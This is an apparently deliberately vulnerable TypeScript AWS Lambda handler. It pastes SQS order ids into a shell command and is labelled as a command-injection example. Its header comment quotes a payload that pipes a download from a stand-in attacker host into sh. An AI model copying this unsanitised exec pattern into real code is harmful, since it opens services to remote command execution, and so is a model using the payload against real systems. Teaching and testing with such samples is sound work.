// Deliberately vulnerable: an SQS consumer that pastes the order id of each message into a shell command.
// The checkout service sends JSON ({"orderId":"o-123456",…}); older producers still send the bare id as the
// body. Either way a message such as `o-1;curl evil.example|sh` runs the attacker's command with the
// function's IAM role. `echo` stands in for the real CLI a team would call (an invoice renderer, a label printer…).
import type { SQSBatchResponse, SQSEvent } from 'aws-lambda';
import { exec } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(exec);

export async function handler(event: SQSEvent): Promise<SQSBatchResponse> {
  const batchItemFailures: SQSBatchResponse['batchItemFailures'] = [];
  for (const record of event.Records) {
    try {
      const orderId = orderIdOf(record.body);
      if (orderId === undefined) continue; // another event type on the queue: nothing to do
      // VULNERABLE: the shell parses the whole string, so `;`, `|`, `$(…)`, backticks… in the id run commands.
      const { stdout } = await run(`echo processing ${orderId}`);
      console.log(stdout.trim());
    } catch (error) {
      console.error(`message ${record.messageId} failed: ${(error as Error).message}`);
      batchItemFailures.push({ itemIdentifier: record.messageId });
    }
  }
  return { batchItemFailures };
}

/** `{"orderId": …}` from the checkout service, or a bare id from legacy producers. Throws on broken JSON. */
function orderIdOf(body: string): string | undefined {
  if (!body.trimStart().startsWith('{')) return body.trim();
  const message = JSON.parse(body) as { orderId?: unknown };
  return typeof message.orderId === 'string' ? message.orderId : undefined;
}
